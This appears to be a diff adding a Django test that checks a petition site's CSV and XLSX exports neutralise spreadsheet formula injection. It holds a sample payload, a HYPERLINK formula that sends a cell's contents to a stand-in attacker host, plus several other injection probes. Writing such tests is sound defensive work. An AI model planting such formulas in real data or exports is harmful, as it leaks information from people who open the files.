@@ -87,3 +87,37 @@ def test_signature_shows_in_the_admin_list_and_both_exports(client, admin_client
     assert values[1][1:3] == ["Rosa", "rosa@example.org"]
     assert values[1][-1] is True
     assert len(values) == 2
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
+
+
+def test_a_formula_a_member_types_is_inert_in_the_csv_and_text_in_the_xlsx(
+    client, admin_client, petition_page
+):
+    """OWASP CSV injection: a cell that starts with = + - @, a tab or a carriage return is
+    prefixed with a single quote, so a spreadsheet shows it as text."""
+    names = (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "Rosa")
+    for number, name in enumerate(names):  # five people, each within the rate limit
+        response = client.post(
+            "/petition/", signed(first_name=name), REMOTE_ADDR=f"192.0.2.{number + 1}"
+        )
+        assert response.status_code == 200
+    # The form strips leading whitespace; stored data from elsewhere (an import) may not.
+    for name in ("\tcmd", "\rcmd"):
+        FormSubmission.objects.create(page=petition_page, form_data={"first_name": name})
+    csv_response = _admin_submissions(admin_client, petition_page, export="csv")
+    text = b"".join(csv_response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    names = sorted(row[1] for row in rows[1:])
+    assert names == sorted(
+        ["'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tcmd", "'\rcmd", "Rosa"]
+    )
+    first_cells = [cell[:1] for row in rows for cell in row]
+    assert not set(first_cells) & {"=", "+", "-", "@", "\t", "\r"}
+
+    xlsx_response = _admin_submissions(admin_client, petition_page, export="xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_response.streaming_content))).active
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+    assert FORMULA in [cell.value for cell in cells]  # stored as it was typed...
+    assert {cell.data_type for cell in cells} == {"s"}  # ...as text, never a formula
